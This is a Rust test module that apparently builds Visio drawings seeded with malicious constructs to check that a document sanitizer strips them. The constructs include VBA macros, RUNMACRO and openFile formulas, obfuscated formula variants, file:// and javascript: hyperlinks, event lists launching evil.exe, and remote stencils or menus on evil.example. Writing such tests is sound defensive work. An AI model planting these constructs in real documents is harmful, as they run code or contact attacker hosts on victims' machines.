//! Visio: a drawing builder and a planter for each danger a drawing may hold.

use super::package::{KEPT, Package, png};
use crate::{Planted, Planter};

const NS: &str = "xmlns=\"http://schemas.microsoft.com/office/visio/2012/main\" xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\" xml:space=\"preserve\"";
const MS: &str = "http://schemas.microsoft.com/visio/2010/relationships/";
const DRAWING: &str = "visio/document.xml";
const PAGES: &str = "visio/pages/pages.xml";
const PAGE: &str = "visio/pages/page1.xml";

fn kind(name: &str) -> String {
    format!("application/vnd.ms-visio.{name}+xml")
}

/// A drawing of one page: `settings` stand in the document, `cells` in its one shape, `shapes` behind it.
pub(super) fn drawing(settings: &str, cells: &str, shapes: &str) -> Package {
    let shape = format!(
        "<Shape ID=\"1\" Type=\"Shape\" LineStyle=\"0\" FillStyle=\"0\" TextStyle=\"0\"><Cell N=\"PinX\" V=\"4.25\"/><Cell N=\"Width\" V=\"2\" U=\"MM\" F=\"GUARD(Height*2)\"/><Cell N=\"Height\" V=\"1\"/>{cells}<Text><cp IX=\"0\"/>{KEPT}</Text></Shape>"
    );
    Package::default()
        .rel("", "rId1", &format!("{MS}document"), DRAWING)
        .part(DRAWING, &kind("drawing.main"), format!("<VisioDocument {NS}><DocumentSettings TopPage=\"0\"><GlueSettings>9</GlueSettings></DocumentSettings><StyleSheets><StyleSheet ID=\"0\" NameU=\"No Style\" Name=\"スタイルなし\"><Cell N=\"LineWeight\" V=\"0.01\"/></StyleSheet></StyleSheets><DocumentSheet NameU=\"TheDoc\" Name=\"TheDoc\"/>{settings}</VisioDocument>"))
        .rel(DRAWING, "rId1", &format!("{MS}pages"), "pages/pages.xml")
        .part(PAGES, &kind("pages"), format!("<Pages {NS}><Page ID=\"0\" NameU=\"Page-1\" Name=\"配線図\"><PageSheet><Cell N=\"PageWidth\" V=\"8.27\"/><Cell N=\"PageHeight\" V=\"11.69\"/></PageSheet><Rel r:id=\"rId1\"/></Page></Pages>"))
        .rel(PAGES, "rId1", &format!("{MS}page"), "page1.xml")
        .part(PAGE, &kind("page"), format!("<PageContents {NS}><Shapes>{shape}{shapes}</Shapes></PageContents>"))
}

fn cell(name: &str, formula: &str) -> String {
    format!("<Cell N=\"{name}\" V=\"0\" F=\"{formula}\"/>")
}

/// A hyperlink of a shape: where it leads, and more of its cells.
fn link(section: &str, address: &str, more: &str) -> String {
    format!(
        "<Section N=\"{section}\"><Row N=\"Row_1\"><Cell N=\"Description\" V=\"市のページ\"/><Cell N=\"Address\" V=\"{address}\"{more}/></Row></Section>"
    )
}

const OBJECT: &str = "<Shape ID=\"2\" Type=\"Foreign\"><Cell N=\"Width\" V=\"1\"/><ForeignData ForeignType=\"Object\" ObjectType=\"33280\"><Rel r:id=\"rIdO\"/></ForeignData></Shape>";
const PICTURE: &str = "<Shape ID=\"2\" Type=\"Foreign\"><Cell N=\"Width\" V=\"1\"/><ForeignData ForeignType=\"Bitmap\" CompressionType=\"PNG\"><Rel r:id=\"rIdP\"/></ForeignData></Shape>";

fn planted(name: &str, package: &Package, gone: &[&str]) -> Planted {
    Planted {
        name: name.to_owned(),
        bytes: package.zip(),
        gone: gone.iter().map(|g| g.as_bytes().to_vec()).collect(),
        kept: vec![KEPT.as_bytes().to_vec()],
    }
}

macro_rules! planter {
    ($rule:literal, $shape:literal, $package:expr, [$($gone:expr),*]) => {
        Planter { rule: $rule, shape: $shape, plant: || planted("drawing.vsdx", &$package, &[$($gone),*]) }
    };
}

/// A drawing with macros.
pub(super) fn with_macro() -> Package {
    drawing("", "", "")
        .part(
            DRAWING,
            "application/vnd.ms-visio.drawing.macroEnabled.main+xml",
            format!("<VisioDocument {NS}><DocumentSettings/></VisioDocument>"),
        )
        .rel(DRAWING, "rIdV", "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin")
        .part("visio/vbaProject.bin", "application/vnd.ms-office.vbaProject", "Attribute VB_Name Shell calc")
}

/// Every planter of this module.
pub(super) fn planters() -> Vec<Planter> {
    vec![
        planter!("office.macro", "plain: in a drawing", with_macro(), ["vbaProject", "Shell calc", "macroEnabled"]),
        planter!("office.formula", "plain: a double click on a shape runs a macro", drawing("", &cell("EventDblClick", "RUNMACRO(&quot;Evil&quot;)"), ""), ["RUNMACRO", "Evil"]),
        planter!("office.formula", "obfuscated: other case, spaces, inside another function", drawing("", &cell("TheText", "IF(1,openFile (&quot;\\\\evil.example\\a&quot;),0)"), ""), ["evil.example", "openFile"]),
        planter!("office.formula", "obfuscated: a formula made of texts", drawing("", &cell("EventDrop", "SETF(&quot;User.a&quot;,&quot;RUN&quot;&amp;&quot;ADDON(1)&quot;)"), ""), ["SETF", "ADDON"]),
        planter!("office.link", "plain: of a shape", drawing("", &link("Hyperlink", "file:///c:/evil.exe", ""), ""), ["evil.exe"]),
        planter!("office.link", "obfuscated: of a shape, in other letters, with a formula", drawing("", &link("hyperLink", " java%73cript:evil()", " F=\"&quot;https://www.example.jp/&quot;\""), ""), ["evil()"]),
        planter!("office.macro-call", "plain: a list of events", drawing("<EventList><EventItem ID=\"1\" EventCode=\"1\" Action=\"1\" Enabled=\"1\" Target=\"evil.exe\" TargetArgs=\"/x\"/></EventList>", "", ""), ["EventItem", "evil.exe"]),
        planter!("office.custom-ui", "plain: menus in a drawing", drawing("<CustomMenusFile>\\\\evil.example\\menu</CustomMenusFile>", "", ""), ["CustomMenusFile", "evil.example"]),
        planter!("office.external-reference", "plain: a stencil from elsewhere", drawing("", "", "").rel(DRAWING, "rId2", &format!("{MS}windows"), "windows.xml").part("visio/windows.xml", &kind("windows"), format!("<Windows {NS}><Window ID=\"0\" WindowType=\"Drawing\" Page=\"0\"/><Window ID=\"1\" WindowType=\"Stencil\" Document=\"\\\\evil.example\\share\\a.vssx\"/></Windows>")), ["evil.example"]),
        planter!("office.ole-object", "plain: in a drawing", drawing("", "", OBJECT).rel(PAGE, "rIdO", "oleObject", "../embeddings/oleObject1.bin").part("visio/embeddings/oleObject1.bin", "", b"\xD0\xCF\x11\xE0 evil package"), ["evil package", "oleObject", "ForeignType=\"Object\""]),
    ]
}

/// A drawing with what must survive: a master, a picture, links, cells that compute.
pub(super) fn clean() -> Vec<u8> {
    let cells = format!(
        "{}{}",
        cell("EventDblClick", "OPENTEXTWIN()"),
        link("Hyperlink", "https://www.city.example.lg.jp/", "")
    );
    drawing("", &cells, PICTURE)
        .rel(PAGE, "rIdP", "image", "../media/image1.png")
        .part("visio/media/image1.png", "", png())
        .rel(PAGE, "rIdM", &format!("{MS}master"), "../masters/master1.xml")
        .rel(DRAWING, "rId2", &format!("{MS}masters"), "masters/masters.xml")
        .part("visio/masters/masters.xml", &kind("masters"), format!("<Masters {NS}><Master ID=\"2\" NameU=\"Box\" Name=\"箱\"><PageSheet/><Rel r:id=\"rId1\"/></Master></Masters>"))
        .rel("visio/masters/masters.xml", "rId1", &format!("{MS}master"), "master1.xml")
        .part("visio/masters/master1.xml", &kind("master"), format!("<MasterContents {NS}><Shapes><Shape ID=\"5\" Type=\"Shape\"><Cell N=\"FillForegnd\" V=\"#4f81bd\" F=\"THEMEVAL(&quot;FillColor&quot;,RGB(255,255,255))\"/></Shape></Shapes></MasterContents>"))
        .zip()
}
